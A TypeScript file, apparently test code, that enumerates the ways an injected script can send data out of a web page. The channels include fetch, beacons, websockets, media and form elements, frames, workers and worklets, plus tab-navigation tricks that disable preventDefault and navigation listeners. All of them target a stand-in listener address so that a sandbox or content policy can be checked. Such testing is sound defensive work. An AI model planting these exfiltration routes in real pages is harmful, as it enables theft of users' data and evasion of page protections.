// All ways in which an injected script could send something out. Each function runs alone inside a page, so it must not use anything
// outside itself. An attempt that the page refuses at once has leaked nothing.

/** Names of the channels, which are the last part of the path at the listener; see `tryEveryChannel`. */
export const CHANNELS = [
  'fetch',
  'fetch-no-cors',
  'fetch-keepalive',
  'fetch-later',
  'xhr',
  'beacon',
  'websocket',
  'eventsource',
  'ping',
  'image',
  'css-image',
  'audio',
  'video',
  'poster',
  'track',
  'font',
  'svg-image',
  'input-image',
  'object',
  'embed',
  'frame',
  'srcdoc-frame',
  'blank-frame',
  'form-get',
  'form-post',
  'stylesheet',
  'icon',
  'prefetch',
  'preload',
  'modulepreload',
  'script',
  'inline-script',
  'import',
  'worker',
  'shared-worker',
  'worklet',
] as const;

/** Runs in a page: ways to send something by calling a function. */
function tryRequests(base: string): void {
  const attempt = (run: () => unknown): void => {
    try {
      const result = run();
      if (result instanceof Promise) result.catch(() => undefined);
    } catch {
      // The page refused it.
    }
  };
  attempt(() => fetch(`${base}/fetch`));
  attempt(() => fetch(`${base}/fetch-no-cors`, { mode: 'no-cors', method: 'POST', body: 'x' }));
  attempt(() => fetch(`${base}/fetch-keepalive`, { keepalive: true }));
  attempt(() => {
    const later = Reflect.get(window, 'fetchLater') as (url: string, init: object) => unknown;
    return later(`${base}/fetch-later`, { activateAfter: 0 });
  });
  attempt(() => {
    const request = new XMLHttpRequest();
    request.open('GET', `${base}/xhr`);
    request.send();
  });
  attempt(() => navigator.sendBeacon(`${base}/beacon`, 'x'));
  attempt(() => new WebSocket(`${base.replace(/^http/, 'ws')}/websocket`));
  attempt(() => new EventSource(`${base}/eventsource`));
  attempt(() => {
    const link = document.createElement('a');
    link.href = location.hash === '' ? '#' : location.hash;
    link.ping = `${base}/ping`;
    document.body.append(link);
    link.click();
    link.remove();
  });
  attempt(() => new FontFace('leak', `url(${base}/font)`).load());
  attempt(() => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { background-image: url(${base}/css-image) }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  });
}

/** Runs in a page: elements that load something. */
function tryElements(base: string): void {
  const add = (name: string, properties: Record<string, unknown>, parent: Element = document.body): void => {
    try {
      const element = document.createElement(name);
      parent.append(Object.assign(element, properties));
    } catch {
      // The page refused it.
    }
  };
  add('img', { src: `${base}/image` });
  add('audio', { src: `${base}/audio`, preload: 'auto' });
  add('video', { src: `${base}/video`, preload: 'auto' });
  add('video', { poster: `${base}/poster` });
  const video = Object.assign(document.createElement('video'), { crossOrigin: 'anonymous' });
  document.body.append(video);
  add('track', { src: `${base}/track`, default: true, kind: 'metadata' }, video);
  for (const track of Array.from(video.textTracks)) track.mode = 'hidden';
  add('input', { type: 'image', src: `${base}/input-image` });
  add('object', { data: `${base}/object` });
  add('embed', { src: `${base}/embed`, type: 'text/html' });
  add('iframe', { src: `${base}/frame` });
  add('iframe', { name: 'sink-get' });
  add('iframe', { name: 'sink-post' });
  for (const method of ['get', 'post']) {
    const form = document.createElement('form');
    Object.assign(form, { method, action: `${base}/form-${method}`, target: `sink-${method}` });
    document.body.append(form);
    form.submit();
  }
  const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
  const picture = document.createElementNS('http://www.w3.org/2000/svg', 'image');
  picture.setAttribute('href', `${base}/svg-image`);
  svg.append(picture);
  document.body.append(svg);
  for (const rel of ['stylesheet', 'icon', 'prefetch', 'preload', 'modulepreload']) {
    add('link', { rel, href: `${base}/${rel}`, as: rel === 'preload' ? 'image' : '' }, document.head);
  }
  // No listener on this machine could notice it, but it is tried in any case.
  add('link', { rel: 'dns-prefetch', href: base }, document.head);
}

/** Runs in a page: ways to load code, or to send from other documents and workers. */
function tryCode(base: string): void {
  const attempt = (run: () => unknown): void => {
    try {
      const result = run();
      if (result instanceof Promise) result.catch(() => undefined);
    } catch {
      // The page refused it.
    }
  };
  const frame = (): HTMLIFrameElement => {
    const made = document.createElement('iframe');
    document.body.append(made);
    return made;
  };
  const code = (path: string): string =>
    URL.createObjectURL(
      new Blob([`fetch(${JSON.stringify(`${base}/${path}`)})`], { type: 'text/javascript' }),
    );
  attempt(() =>
    document.head.append(Object.assign(document.createElement('script'), { src: `${base}/script` })),
  );
  attempt(() => {
    const script = document.createElement('script');
    script.textContent = `fetch(${JSON.stringify(`${base}/inline-script`)})`;
    document.head.append(script);
  });
  attempt(() => import(/* @vite-ignore */ `${base}/import`));
  attempt(() => new Worker(code('worker')));
  attempt(() => new SharedWorker(code('shared-worker')));
  attempt(() => new AudioContext().audioWorklet.addModule(`${base}/worklet`));
  attempt(() => {
    frame().srcdoc = `<img src="${base}/srcdoc-frame">`;
  });
  attempt(() => {
    const inner = frame().contentWindow as (Window & typeof globalThis) | null;
    return inner?.fetch(`${base}/blank-frame`);
  });
}

/** Functions to run in a page one after another, with the forbidden address. */
export const ATTEMPTS: readonly ((base: string) => void)[] = [tryRequests, tryElements, tryCode];

/** Ways to move the tab to an address, which can contain anything a script writes into it. */
export const MOVES = [
  'assign',
  'replace',
  'href',
  'link',
  'download',
  'open-self',
  'frame-top',
  'navigate',
  'refresh',
  'own-page',
] as const;

/** Runs in a page: moves the tab in one way, like a script that expects to be watched. */
export function tryMove({
  base,
  way,
}: {
  readonly base: string;
  readonly way: (typeof MOVES)[number];
}): void {
  const url = `${base}/${way}`;
  const click = (more: object): void => {
    const link = Object.assign(document.createElement('a'), { href: url, ...more });
    document.body.append(link);
    link.click();
    link.remove();
  };
  const preventDefault: () => void = Reflect.get(Event.prototype, 'preventDefault');
  Event.prototype.preventDefault = () => undefined;
  Reflect.get(window, 'navigation').addEventListener('navigate', (event: Event) => {
    event.stopImmediatePropagation();
  });
  const ways: Readonly<Record<typeof way, () => unknown>> = {
    assign: () => location.assign(url),
    replace: () => location.replace(url),
    href: () => {
      location.href = url;
    },
    link: () => click({}),
    download: () => click({ download: 'x' }),
    'open-self': () => window.open(url, '_self'),
    'frame-top': () => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      frame.contentWindow?.open(url, '_top');
      frame.remove();
    },
    navigate: () => Reflect.get(window, 'navigation').navigate(url),
    refresh: () => {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'refresh';
      meta.content = `0;url=${url}`;
      document.head.append(meta);
    },
    // Bytes of this origin, like a download, but shown as a page, which nothing would lock.
    'own-page': () => {
      const leads = `<meta http-equiv="refresh" content="0;url=${url}">`;
      location.href = URL.createObjectURL(new Blob([leads], { type: 'text/html' }));
    },
  };
  try {
    ways[way]();
  } finally {
    Event.prototype.preventDefault = preventDefault;
  }
}
